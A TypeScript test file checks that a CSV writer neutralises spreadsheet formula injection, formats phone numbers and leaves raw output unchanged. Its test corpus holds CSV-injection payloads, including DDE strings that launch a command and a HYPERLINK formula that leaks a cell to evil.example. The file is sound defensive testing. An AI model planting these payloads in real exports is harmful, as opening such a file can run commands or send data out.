import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { parsePhoneNumberFromString } from 'libphonenumber-js/min'
import { describe, expect, test } from 'vitest'
import { csvLine, csvStart } from './csv.ts'

/** Attack strings from OWASP's page on CSV injection and from later reports. */
const corpus = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1";=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '+12125550100',
]

const readBack = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true })

describe('a CSV line', () => {
  test.each(corpus)('never lets %j be interpreted as a formula', (text) => {
    const [[first, second] = []] = readBack(csvLine([text, `a,${text}`], 'spreadsheet'))
    expect(first).toBe(`'${text}`)
    expect(second).toBe(`a,${text}`)
  })

  test('preserves every text, whole and in its own field', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 6 }), (texts) => {
        // A CSV reader may drop a BOM at the beginning of a file; here a number comes before it.
        const [fields] = readBack(csvLine([1, ...texts], 'spreadsheet'))
        expect(fields!.slice(1).map((text) => text.replace(/^'/, ''))).toEqual(
          texts.map((text) => text.replace(/^'/, '')),
        )
        for (const text of fields!.slice(1)) expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
      }),
      { numRuns: 500 },
    )
  })

  test('leaves plain texts, numbers and null unchanged', () => {
    expect(csvLine(['Ann', 1.5, -2, null, ''], 'spreadsheet')).toBe('Ann,1.5,-2,,\r\n')
    expect(csvLine(['a "b"', 'c,d', 'e\nf'], 'spreadsheet')).toBe('"a ""b""","c,d","e\nf"\r\n')
    expect(readBack(`${csvStart('spreadsheet')}${csvLine(['é'], 'spreadsheet')}`)).toEqual([['é']])
  })

  test('formats any North American number as the phone number library does', () => {
    const digits = (first: number, last: number) => fc.integer({ min: first, max: last })
    fc.assert(
      fc.property(digits(100, 999), digits(100, 999), digits(1000, 9999), (area, exchange, line) => {
        const phone = `+1${area}${exchange}${line}`
        const number = parsePhoneNumberFromString(phone)
        const text = number ? number.formatNational() : `'${phone}`
        expect(csvLine([{ phone }], 'spreadsheet')).toBe(`${text}\r\n`)
      }),
      { numRuns: 500 },
    )
  })

  test.each([
    ['+12125550100', '(212) 555-0100'],
    ['+442079460958', '(+44) 20 7946 0958'],
    ['+971501234567', '(+971) 50 123 4567'],
    ['+1', "'+1"],
    ['=1+1', "'=1+1"],
  ])('writes the phone number %s without a leading quote, and never as a formula', (phone, text) => {
    expect(readBack(csvLine([{ phone }], 'spreadsheet'))).toEqual([[text]])
  })

  test('leaves every text of a raw file unchanged, from the first byte on', () => {
    expect(readBack(csvStart('raw') + csvLine([...corpus, { phone: '+12125550100' }], 'raw'))).toEqual([
      [...corpus, '+12125550100'],
    ])
    expect(csvStart('raw') + csvLine(['created_at'], 'raw')).toBe('created_at\r\n')
  })
})
